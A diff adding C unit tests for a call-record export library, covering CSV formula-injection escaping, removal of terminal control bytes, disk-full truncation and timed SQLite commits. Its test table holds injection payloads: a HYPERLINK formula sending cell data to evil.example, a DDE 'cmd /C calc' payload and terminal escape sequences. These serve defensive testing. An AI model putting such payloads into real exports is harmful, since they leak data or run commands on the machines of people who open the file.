@@ -4,7 +4,10 @@
  * escaping (JSON RFC 8259, CSV RFC 4180), derived durations, ISO times, the
  * exact JSON text of a record (the golden tests depend on it), CSV rows, the
  * table sink, and the SQLite sink (schema, batching, append, refusal of an
- * unwritable path or a newer schema).  Files go to a mkdtemp() directory.
+ * unwritable path or a newer schema, a batch committed after a second), CSV
+ * formula injection and control bytes, terminal escapes in the table, and
+ * a full disk cutting a file back to its last whole record.  Files go to a
+ * mkdtemp() directory.
  */
 #include "config.h"
 
@@ -12,7 +15,9 @@
 #include <math.h>
 #include <stdio.h>
 #include <stdlib.h>
+#include <signal.h>
 #include <string.h>
+#include <sys/resource.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
@@ -553,6 +558,135 @@ static void test_table_sink(void)
 	ct_call_record_free(recs[2]);
 }
 
+/*
+ * CSV formula injection and control bytes (OWASP "CSV Injection"): caller
+ * names from the wire, as the CSV cell they must become.  A leading = + - @
+ * (after control bytes are removed, so "\t=" and "\r=" are caught too) gets
+ * a single quote; a plain E.164 number stays a number.
+ */
+static const struct {
+	const char *in;
+	const char *cell;
+} csv_attack[] = {
+	{ "=HYPERLINK(\"http://evil.example/?l=\"&A1,\"Click\")",
+	  "\"'=HYPERLINK(\"\"http://evil.example/?l=\"\"&A1,\"\"Click\"\")\"" },
+	{ "=1+1", "'=1+1" },
+	{ "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
+	{ "-2+3", "'-2+3" },
+	{ "@SUM(A1:A9)", "'@SUM(A1:A9)" },
+	{ "\t=1+1", "'=1+1" },
+	{ "\r=1+1", "'=1+1" },
+	{ "\x1b=1+1", "'=1+1" },
+	{ " =1+1", "\" =1+1\"" },                       /* a leading blank is text already */
+	{ "+15551234567", "+15551234567" },             /* E.164: left as a number */
+	{ "+1 555 123", "'+1 555 123" },
+	{ "+", "'+" },
+	{ "-", "'-" },
+	{ "a=1", "a=1" },
+	{ "Evil\x1b]0;owned\x07Name\x1b[2J", "Evil]0;ownedName[2J" },  /* ESC, BEL */
+	{ "a\x7f" "b\x01" "c", "abc" },                 /* DEL, C0 */
+	{ "x\xc2\x9b" "31my", "x31my" },                /* C1 CSI as UTF-8 */
+	{ "line\nbreak\r", "linebreak" },
+	{ "J\xc3\xbcrgen \xe2\x82\xac", "J\xc3\xbcrgen \xe2\x82\xac" },
+	{ "bad\xff", "bad\xef\xbf\xbd" },                /* as in the JSON: U+FFFD */
+	{ "\x07", "\"\"" },                             /* nothing left: an empty string */
+};
+
+static void test_csv_injection(void)
+{
+	char errbuf[CT_ERRBUF_SIZE] = "", want[1024], got[1024];
+	struct ct_call_record *r;
+	const char *text, *row;
+	size_t i;
+
+	for (i = 0; i < sizeof(csv_attack) / sizeof(csv_attack[0]); i++) {
+		r = empty_record();
+		r->caller_name = strdup(csv_attack[i].in);
+		CHECK_INT(run_sink(&ct_sink_csv, tmp_path("out.csv"), &r, 1, errbuf), CT_OK);
+		text = slurp(tmp_path("out.csv"));
+		row = strchr(text, '\n');
+		snprintf(got, sizeof(got), "%s", row != NULL ? row + 1 : "");
+		/* the empty record's row with caller_name (third field) set */
+		snprintf(want, sizeof(want), ",,%s%s", csv_attack[i].cell, csv_empty + 2);
+		CHECK_STR(got, want);
+		ct_call_record_free(r);
+	}
+}
+
+/* A C1 control (CSI) and bidi overrides from the wire never reach the terminal. */
+static void test_table_controls(void)
+{
+	struct ct_call_record *r = empty_record();
+	char errbuf[CT_ERRBUF_SIZE] = "";
+	const char *text, *row;
+
+	r->caller = strdup("\xc2\x9b" "31mA\xe2\x80\xae" "B\xe2\x81\xa6");
+	r->callee = strdup("\xd8\x9c" "1\xe2\x80\x8f" "2\xc2\xa0" "3");
+	r->hangup_reason = strdup("\x1b[2J\x07\x7f" "ok");
+	CHECK_INT(run_sink(&ct_sink_table, tmp_path("out.txt"), &r, 1, errbuf), CT_OK);
+	text = slurp(tmp_path("out.txt"));
+	row = strchr(text, '\n');
+	CHECK(row != NULL);
+	CHECK_STR(row != NULL ? row + 1 : "", "-                   ?31mA?B?         "
+	    "?1?2\xc2\xa0" "3           unfinished  -       -       -       -    -      "
+	    "?[2J??ok\n1 calls: 0 answered, 0 busy, 0 noanswer, 0 cancelled, 0 failed, "
+	    "1 unfinished\n");
+	CHECK(strchr(text, 0x1b) == NULL && strstr(text, "\xc2\x9b") == NULL &&
+	    strstr(text, "\xe2\x80\xae") == NULL);
+	ct_call_record_free(r);
+}
+
+/*
+ * Disk full in the middle of a record (here: the file size limit, with
+ * SIGXFSZ ignored so write(2) fails with EFBIG): the file is cut back to
+ * its last whole record, and later writes are refused so nothing follows a
+ * hole.  Both text formats.
+ */
+static void test_sink_cut_back(void)
+{
+	static const struct ct_sink_ops *const ops[] = { &ct_sink_json, &ct_sink_csv };
+	struct ct_call_record *r = full_record();
+	char errbuf[CT_ERRBUF_SIZE], want[CT_ERRBUF_SIZE];
+	struct rlimit saved, lim;
+	void (*old)(int);
+	const char *path = tmp_path("cut.out"), *text;
+	size_t k, len, line;
+	int i, rc;
+	void *priv;
+
+	CHECK_INT(getrlimit(RLIMIT_FSIZE, &saved), 0);
+	old = signal(SIGXFSZ, SIG_IGN);
+	for (k = 0; k < sizeof(ops) / sizeof(ops[0]); k++) {
+		priv = ops[k]->open(path, errbuf);
+		CHECK(priv != NULL);
+		if (priv == NULL)
+			continue;
+		lim = saved;
+		lim.rlim_cur = 3000;    /* a few records and a part of one */
+		setrlimit(RLIMIT_FSIZE, &lim);
+		rc = CT_OK;
+		for (i = 0; i < 20 && rc == CT_OK; i++)
+			rc = ops[k]->write(priv, r, errbuf);
+		CHECK_INT(rc, CT_ERR);
+		snprintf(want, sizeof(want), "cannot write to '%s': File too large (the incomplete "
+		    "record was removed)", path);
+		CHECK_STR(errbuf, want);
+		CHECK_INT(ops[k]->write(priv, r, errbuf), CT_ERR);   /* refused from now on */
+		ops[k]->close(priv, errbuf);
+		setrlimit(RLIMIT_FSIZE, &saved);
+		text = slurp(path);
+		len = strlen(text);
+		line = k == 0 ? strlen(full_json) + 1 : strlen(csv_full);
+		/* JSON: i - 1 whole lines; CSV: the header and i - 1 rows */
+		CHECK(len > 0 && text[len - 1] == '\n');
+		CHECK_INT(len, (k == 0 ? 0 : strlen(csv_header)) + (size_t)(i - 1) * line);
+		CHECK(i > 1 && len < 3000);
+	}
+	signal(SIGXFSZ, old);
+	unlink(path);
+	ct_call_record_free(r);
+}
+
 /* ---- SQLite -------------------------------------------------------------- */
 
 /* Runs a query returning one integer (or -999 on error). */
@@ -726,6 +860,33 @@ out:
 	ct_call_record_free(r);
 }
 
+/*
+ * A batch is committed once it is a second old even with no flush: a crash
+ * then loses at most the last second of records, not the last 499.
+ */
+static void test_sqlite_commit_time(void)
+{
+	struct ct_call_record *r = empty_record();
+	char errbuf[CT_ERRBUF_SIZE] = "";
+	const char *path = tmp_path("timed.db");
+	sqlite3 *db = NULL;
+	void *priv = ct_sink_sqlite.open(path, errbuf);
+
+	CHECK(priv != NULL);
+	if (priv == NULL)
+		goto out;
+	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
+	CHECK_INT(ct_sink_sqlite.write(priv, r, errbuf), CT_OK);
+	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), 0);   /* batched */
+	usleep(1050 * 1000);
+	CHECK_INT(ct_sink_sqlite.write(priv, r, errbuf), CT_OK);
+	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), 2);   /* the batch was 1 s old */
+	sqlite3_close(db);
+	CHECK_INT(ct_sink_sqlite.close(priv, errbuf), CT_OK);
+out:
+	ct_call_record_free(r);
+}
+
 /* A record that fails half-way (streams table gone) is rolled back alone. */
 static void test_sqlite_partial(void)
 {
@@ -763,7 +924,8 @@ static void cleanup(void)
 {
 	static const char *const names[] = { "out.jsonl", "out.csv", "out.txt",
 		"calls.db", "calls.db-wal", "calls.db-shm", "batch.db", "batch.db-wal",
-		"batch.db-shm", "not.db", "partial.db", "partial.db-wal", "partial.db-shm" };
+		"batch.db-shm", "not.db", "partial.db", "partial.db-wal", "partial.db-shm",
+		"timed.db", "timed.db-wal", "timed.db-shm" };
 	size_t i;
 
 	for (i = 0; i < sizeof(names) / sizeof(names[0]); i++)
@@ -787,9 +949,13 @@ int main(void)
 	test_json_sink();
 	test_csv_sink();
 	test_table_sink();
+	test_csv_injection();
+	test_table_controls();
+	test_sink_cut_back();
 	test_sqlite_sink();
 	test_sqlite_batch();
 	test_sqlite_partial();
+	test_sqlite_commit_time();
 	cleanup();
 	return TEST_REPORT();
 }
